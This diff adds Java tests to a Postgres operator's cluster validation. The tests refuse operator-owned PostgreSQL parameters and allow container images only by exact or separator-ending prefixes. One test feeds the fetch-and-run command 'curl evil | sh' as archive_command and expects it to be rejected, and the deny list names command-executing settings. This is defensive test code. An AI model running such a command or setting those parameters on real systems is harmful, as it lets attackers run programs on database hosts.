@@ -67,4 +67,69 @@ class ClusterValidationTest {
     spec.databases = List.of(db, db);
     assertThat(ClusterValidation.problem(spec)).isEqualTo("database shop is declared twice in spec.databases");
   }
+
+  static PostgresClusterSpec withParameter(String name, String value) {
+    PostgresClusterSpec spec = new PostgresClusterSpec();
+    spec.parameters.put("work_mem", "8MB");
+    spec.parameters.put(name, value);
+    return spec;
+  }
+
+  @Test
+  void parametersPatroniSpiloOrPgtideOwnAreRefusedWithTheReason() {
+    assertThat(ClusterValidation.problem(withParameter("archive_command", "curl evil | sh")))
+        .isEqualTo("parameters.archive_command may not be set: pgtide's backups archive and restore WAL "
+            + "(spec.backup); another command breaks them and runs programs as the postgres user");
+    // PostgreSQL reads names case-insensitively
+    assertThat(ClusterValidation.problem(withParameter("Archive_Command", "x")))
+        .startsWith("parameters.Archive_Command may not be set");
+    for (String name : List.of("archive_mode", "restore_command", "listen_addresses", "port", "data_directory",
+        "hba_file", "ident_file", "config_file", "unix_socket_directories", "unix_socket_permissions",
+        "shared_preload_libraries", "dynamic_library_path", "primary_conninfo", "synchronous_standby_names",
+        "log_directory", "ssl", "ssl_cert_file", "ssl_key_file", "ssl_ca_file", "ssl_passphrase_command")) {
+      assertThat(ClusterValidation.problem(withParameter(name, "x"))).as(name)
+          .startsWith("parameters." + name + " may not be set: ");
+    }
+    assertThat(ClusterValidation.problem(withParameter("ssl", "off"))).contains("not turned off");
+  }
+
+  @Test
+  void tuningParametersAndTlsHardeningStayAllowed() {
+    for (String name : List.of("work_mem", "shared_buffers", "wal_level", "log_min_duration_statement",
+        "ssl_min_protocol_version", "ssl_ciphers", "archive_timeout", "max_wal_size")) {
+      assertThat(ClusterValidation.problem(withParameter(name, "1"))).as(name).isNull();
+    }
+  }
+
+  @Test
+  void anImageIsAllowedByAnExactEntryOrAPrefixEndingInASeparatorOnly() {
+    List<String> allowed = List.of("ghcr.io/zalando/spilo-17:", "registry.example.com/db/",
+        "docker.io/library/postgres-custom@sha256:abc");
+    assertThat(ClusterValidation.imageAllowed("ghcr.io/zalando/spilo-17:4.0-p3", allowed)).isTrue();
+    assertThat(ClusterValidation.imageAllowed("registry.example.com/db/spilo:1", allowed)).isTrue();
+    assertThat(ClusterValidation.imageAllowed("docker.io/library/postgres-custom@sha256:abc", allowed)).isTrue();
+    // no bare prefixes: another repository whose name merely starts the same
+    assertThat(ClusterValidation.imageAllowed("ghcr.io/zalando/spilo-17-evil:1", allowed)).isFalse();
+    assertThat(ClusterValidation.imageAllowed("ghcr.io/zalando/spilo-17:", allowed)).isFalse();
+    assertThat(ClusterValidation.imageAllowed("registry.example.com/dbx/spilo:1", allowed)).isFalse();
+    assertThat(ClusterValidation.imageAllowed("docker.io/library/postgres-custom@sha256:abcd", allowed)).isFalse();
+    assertThat(ClusterValidation.imageAllowed("evil.io/x:1", List.of("*"))).isTrue();
+  }
+
+  @Test
+  void byDefaultAnyTagOrDigestOfTheShippedSpiloImage() {
+    List<String> defaults = OperatorConfig.DEFAULTS.allowedImages();
+    assertThat(defaults).containsExactly("ghcr.io/zalando/spilo-17:", "ghcr.io/zalando/spilo-17@");
+    assertThat(ClusterValidation.defaultAllowedImages("localhost:5000/spilo@sha256:1"))
+        .containsExactly("localhost:5000/spilo:", "localhost:5000/spilo@");
+    assertThat(ClusterValidation.defaultAllowedImages("localhost:5000/spilo"))
+        .containsExactly("localhost:5000/spilo:", "localhost:5000/spilo@");
+    PostgresClusterSpec spec = new PostgresClusterSpec();
+    assertThat(ClusterValidation.imageProblem(spec, defaults)).as("no spec.image: the operator's").isNull();
+    spec.image = "ghcr.io/zalando/spilo-17:4.0-p3";
+    assertThat(ClusterValidation.imageProblem(spec, defaults)).isNull();
+    spec.image = "evil.example.com/spilo:latest";
+    assertThat(ClusterValidation.imageProblem(spec, defaults)).isEqualTo("image evil.example.com/spilo:latest is "
+        + "not allowed by this operator (PGTIDE_ALLOWED_IMAGES: ghcr.io/zalando/spilo-17:,ghcr.io/zalando/spilo-17@)");
+  }
 }
